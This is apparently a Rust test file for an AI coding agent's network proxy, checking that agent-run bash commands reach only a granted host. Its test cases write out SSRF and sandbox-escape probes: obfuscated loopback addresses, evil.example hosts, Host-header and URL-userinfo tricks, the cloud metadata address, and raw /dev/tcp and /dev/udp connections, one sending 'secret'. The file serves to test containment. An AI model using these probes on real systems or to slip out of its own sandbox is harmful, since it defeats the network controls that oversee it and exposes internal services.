//! Commands reach granted hosts through the proxy, and no others.

use std::fmt::Write as _;
use std::net::{Ipv4Addr, UdpSocket};

use sortie_testkit::{Script, ScriptedServer};

use super::bash;
use crate::calls::main_agent;
use crate::web::Inside;
use crate::world::as_each_user;

/// Grants one host, which happens to be this machine.
const ONE_HOST: &[&str] = &[
    "--allow",
    "Bash",
    "--allow",
    "WebFetch(domain:localhost)",
    "--set",
    r#"web.private=["127.0.0.0/8", "localhost", "::1", "0.0.0.0/8"]"#,
];

/// Sends this to the proxy, and prints its answer.
fn asking(request: &str) -> String {
    format!("exec 3<> /dev/tcp/127.0.0.1/${{http_proxy##*:}}; printf '{request}' >&3; cat <&3")
}

fn getting(host: &str, port: u16) -> String {
    asking(&format!("GET http://{host}:{port}/ HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n"))
}

#[test]
fn s71_a_command_reaches_the_granted_host_and_no_other() {
    as_each_user(|world| {
        let granted = Inside::saying("200 OK", "", "GOOD DAY");
        let secret = Inside::secret();
        let port = secret.port;
        let hosts = [
            "127.0.0.1",
            "127.1",
            "2130706433",
            "0x7f000001",
            "[::1]",
            "[::ffff:127.0.0.1]",
            "evil.example",
            "localhost.evil.example",
            "evillocalhost",
            "foo.localhost",
        ];
        let mut lines: Vec<String> = hosts.iter().map(|host| getting(host, port)).collect();
        lines.extend([
            asking(&format!("CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n")),
            // Names one host, means another.
            asking(&format!("GET http://localhost:{}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n", granted.port)),
            asking(&format!("GET http://localhost@127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n")),
            asking(&format!("GET http://127.0.0.1:{port}\\\\@localhost/ HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n")),
        ]);
        lines.insert(0, getting("localhost", granted.port));
        let after = world.run(ONE_HOST, main_agent(lines.iter().map(|line| bash(line))));
        let answers = after.assert_completed().answers();
        assert!(answers[0].text.contains("GOOD DAY"), "{:#?}", answers[0]);
        for (line, answer) in lines.iter().zip(&answers).skip(1) {
            let refused = answer.text.contains("HTTP/1.1 403") && answer.text.contains("not reached");
            assert!(refused || answer.text.contains("HTTP/1.1 400"), "{line}: {answer:#?}");
        }
        secret.assert_never_called();
    });
}

#[test]
fn s71_a_command_reaches_nobody_past_the_proxy() {
    as_each_user(|world| {
        let secret = Inside::secret();
        let resolver = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        resolver.set_nonblocking(true).unwrap();
        let (tcp, udp) = (secret.port, resolver.local_addr().unwrap().port());
        let mut line = format!("exec 3<> /dev/tcp/127.0.0.1/{tcp} && echo >&3 && cat <&3 || echo nobody\n");
        writeln!(line, "exec 3<> /dev/tcp/localhost/{tcp} && echo >&3 && cat <&3 || echo nobody").unwrap();
        writeln!(line, "echo secret > /dev/udp/127.0.0.1/{udp} || echo nobody").unwrap();
        writeln!(line, "timeout 5 getent ahosts secret.evil.example || echo nobody").unwrap();
        writeln!(line, "exec 3<> /dev/tcp/192.0.2.1/80 || echo nobody").unwrap();
        let after = world.run(ONE_HOST, main_agent([bash(&line)]));
        let text = after.assert_completed().answer_of("main").text;
        assert_eq!(text.lines().filter(|line| *line == "nobody").count(), 5, "{text}");
        secret.assert_never_called();
        assert!(resolver.recv(&mut [0; 64]).is_err(), "no packet came");
    });
}

#[test]
fn s72_internal_addresses_are_refused_to_commands_too() {
    as_each_user(|world| {
        let secret = Inside::secret();
        let hosts = ["127.0.0.1", "localhost", "0.0.0.0", "[::1]", "169.254.169.254", "10.0.0.1", "192.168.0.1"];
        let lines = hosts.map(|host| bash(&getting(host, secret.port)));
        let after = world.run(&["--permission-mode", "bypass"], main_agent(lines));
        for answer in after.assert_completed().answers() {
            assert!(answer.text.contains("HTTP/1.1 403") && answer.text.contains("only the internet"), "{answer:#?}");
        }
        secret.assert_never_called();
    });
}

#[test]
fn s77_the_programs_own_servers_are_out_of_a_commands_reach() {
    as_each_user(|world| {
        let server = ScriptedServer::start(Script::new()).unwrap();
        let port = server.address().port();
        world.write(
            "home/.config/sortie/config.toml",
            format!("[routes.other]\nbase_url = \"http://127.0.0.1:{port}\"\nmodel = \"m\"\nwire = \"anthropic\"\n"),
        );
        let flags = [&["--permission-mode", "bypass"], &ONE_HOST[4..]].concat();
        let after =
            world.run(&flags, main_agent(["localhost", "127.0.0.1", "127.1"].map(|host| bash(&getting(host, port)))));
        for answer in after.assert_completed().answers() {
            assert!(answer.text.contains("is a server that this program itself uses"), "{answer:#?}");
        }
        assert!(server.requests().is_empty() && server.traffic().connections == 0, "nobody came");
    });
}
